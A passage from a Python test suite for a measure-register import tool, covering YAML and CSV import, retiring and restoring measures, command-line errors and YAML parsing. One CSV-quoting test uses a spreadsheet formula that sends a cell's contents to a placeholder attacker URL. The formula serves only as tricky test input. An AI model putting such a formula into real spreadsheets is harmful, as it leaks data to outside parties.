    import_file(engine, both)
    original = stored_measure(engine, "SE1.2")
    one = write(tmp_path, register_yaml(measure()), "one.yaml")
    report = import_file(engine, one, retire_missing=True)
    assert (report.retired, report.unchanged) == (["SE1.2"], 1)
    assert not stored_measure(engine, "SE1.2").active
    status = services.status(engine, None, None, today=TODAY)
    assert [row.measure.ref for row in status.rows] == ["SE1.1"]
    with pytest.raises(NotFound):
        services.status(engine, "SE1.2", None, today=TODAY)
    seq = last_seq(engine)
    report = import_file(engine, both)
    assert (report.updated, report.retired) == (["SE1.2"], [])
    restored = stored_measure(engine, "SE1.2")
    assert (restored.id, restored.active) == (original.id, True)
    [update, _] = audit_events(engine, seq)
    assert (update.action, update.before, update.after) == (
        "measure.update",
        {"active": False},
        {"active": True},
    )
    status = services.status(engine, None, None, today=TODAY)
    assert [row.measure.ref for row in status.rows] == ["SE1.1", "SE1.2"]


def test_a_csv_register_imports_and_reimports_unchanged(engine: Engine, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "register.csv", CSV_ROWS)
    report = import_file(engine, path)
    assert report.created == ["SE1.1", "SE1.2", "DE2.1"]
    assert any("not in people" in warning for warning in report.warnings)
    report = import_file(engine, path)
    assert (report.created, report.updated, report.unchanged) == ([], [], 3)


# -- through the real command line ------------------------------------------------------------


def test_cli_import_of_a_bad_register_exits_1_with_located_errors(cli: Cli, tmp_path: Path) -> None:
    text = register_yaml(measure(decimals="7"), measure(ref="SE1.2", colour="blue"))
    path = write(tmp_path, text, "bad.yaml")
    result = cli("import", "register", str(path))
    assert result.code == 1
    assert "The register was not imported: 2 problems to fix. Nothing was changed." in result.err
    assert f"bad.yaml, line {line_of(text, 'decimals: 7')}, measure SE1.1, decimals:" in result.err
    assert f"bad.yaml, line {line_of(text, 'colour: blue')}, measure SE1.2, colour:" in result.err
    assert "Traceback" not in result.err


def test_cli_dry_run_reports_and_changes_nothing(cli: Cli, tmp_path: Path) -> None:
    path = write(tmp_path, two_measures())
    result = cli("import", "register", str(path), "--dry-run")
    assert result.code == 0, result.err
    assert "Would import register.yaml: 2 new measures" in result.out
    assert result.out.rstrip().endswith("Dry run: nothing was changed.")
    result = cli("import", "register", str(path))
    assert result.code == 0, result.err
    assert "Imported register.yaml: 2 new measures, 0 updated" in result.out


def test_an_aim_under_two_priorities_in_a_table_is_a_located_error(tmp_path: Path) -> None:
    # Found by the register fuzz test: the second row's aim SE1 already belongs to priority SE.
    path = tmp_path / "register.csv"
    header = "priority,aim,ref,title,definition,interval,format,decimals,polarity,collector,"
    header += "reviewer,head_of_service"
    person = "jane.doe@example.gov.uk,hos.env@example.gov.uk,hos.env@example.gov.uk"
    path.write_text(
        f"{header}\nSE,SE1,SE1.1,A,d,quarterly,number,0,higher,{person}\n"
        f"DE,SE1,SE1.2,B,d,quarterly,number,0,higher,{person}\n",
        encoding="utf-8",
    )
    with pytest.raises(InputRejected) as caught:
        load_register(path)
    [error] = caught.value.errors
    assert (error.where, error.field) == ("row 3", "aim")
    assert error.message.startswith("aim SE1 is already under priority SE")


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_csv_cell_with_quotes_is_read_exactly_wherever_it_is(
    tmp_path: Path, delimiter: str
) -> None:
    """Excel writes " inside a quoted cell as "". The delimiter is guessed from the start of
    the file, but quoting is always Excel's, even when the start holds no "" (a formula in
    commentary, `=HYPERLINK("…","…")`, arrived cut short before)."""
    from bot.register import read_csv_rows

    tricky = '=HYPERLINK("https://evil.example/?d="&A1,"Board papers"); a; b'
    rows = [["ref", "period", "value", "commentary"]]
    rows += [["SE1.1", f"2025-{m:02d}", "1", "Plain, with a comma"] for m in range(1, 13)] * 9
    rows.append(["SE1.1", "2026-01", "2", tricky])
    path = tmp_path / "actuals.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle, delimiter=delimiter).writerows(rows)
    assert path.stat().st_size > 4096  # the "" comes after the part that is sniffed
    assert read_csv_rows(path, "actuals file") == rows


SCALARS = """\
plain: text
quoted: '012'
octal: 012
hex: 0x1F
underscored: 1_000
sexagesimal: 1:30
yes_word: yes
off_word: Off
tilde: ~
empty:
exponent: 1.5e3
leading_dot: .5
negative: -2.25
infinite: .inf
day: 2026-01-01
big: 123456789012345678901234567890
nested: {a: [1, '2', 3.0, null], 7: seven}
"""


@pytest.mark.parametrize("text", [SCALARS, (EXAMPLES / "register.yaml").read_text("utf-8")])
def test_the_event_reader_builds_what_pyyaml_builds(text: str) -> None:
    """The register is read from the parser's events (flat cost per measure at 10,000
    measures); every value is what PyYAML's safe loader makes of it, with keys as text."""
    from bot.register import read_yaml

    def keyed(value: Any) -> Any:
        if isinstance(value, dict):
            return {str(key): keyed(item) for key, item in value.items()}
        if isinstance(value, list):
            return [keyed(item) for item in value]
        return value

    document = read_yaml(text, "register.yaml")
    assert document.data == keyed(yaml.safe_load(text))
    if text == SCALARS:
        assert [type(document.data[key]) for key in ("octal", "hex", "big", "day")] == [
            int,
            int,
            int,
            date,
        ]
        assert document.locator.where(("nested", "a", 1)) == "line 17"
